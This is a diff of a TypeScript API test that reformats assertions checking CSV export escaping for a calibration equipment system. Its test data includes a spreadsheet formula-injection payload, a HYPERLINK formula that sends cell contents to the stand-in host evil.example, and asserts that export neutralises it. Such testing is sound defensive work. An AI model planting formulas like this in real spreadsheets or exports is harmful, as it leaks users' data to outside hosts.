@@ -43,7 +43,10 @@ for (const database of testDatabases()) {
       assert.ok(evil, res.body);
       assert.is(evil!.name, `'${EVIL}`);
       assert.is(evil!.asset_code, "'@SUM(1+1)");
-      assert.ok(lines.some((l) => l.startsWith(`scale-evil,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Price scale"")","'@SUM(1+1)",`)), res.body);
+      assert.ok(
+        lines.some((l) => l.startsWith(`scale-evil,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Price scale"")","'@SUM(1+1)",`)),
+        res.body,
+      );
       // scale-stall-42 is 37 days overdue: the count stays a number
       const overdue = lines.find((l) => l.startsWith('scale-stall-42,'))!;
       assert.match(overdue, /,overdue,2026-10-19,-37,/);
@@ -56,7 +59,17 @@ for (const database of testDatabases()) {
       const rec = await app.inject({
         method: 'POST',
         url: '/v1/calibrations',
-        payload: { kind: 'verification', subjectId: 'scale-evil', labId: 'district-station', referenceIds: ['district-f1-set'], certificateNo: 'XH-JD2026-09990', performedOn: '2026-11-20', validUntil: '2027-11-19', conformity: 'pass', points: [{ nominal: '15', asFound: '15.0050', expandedUncertainty: '0.00020', coverageFactor: '2', unit: 'kg' }] },
+        payload: {
+          kind: 'verification',
+          subjectId: 'scale-evil',
+          labId: 'district-station',
+          referenceIds: ['district-f1-set'],
+          certificateNo: 'XH-JD2026-09990',
+          performedOn: '2026-11-20',
+          validUntil: '2027-11-19',
+          conformity: 'pass',
+          points: [{ nominal: '15', asFound: '15.0050', expandedUncertainty: '0.00020', coverageFactor: '2', unit: 'kg' }],
+        },
       });
       assert.is(rec.statusCode, 201, rec.body);
       const res = await app.inject({ method: 'GET', url: '/v1/equipment/city-e1-set/dependents?since=2025-01-01&format=csv' });
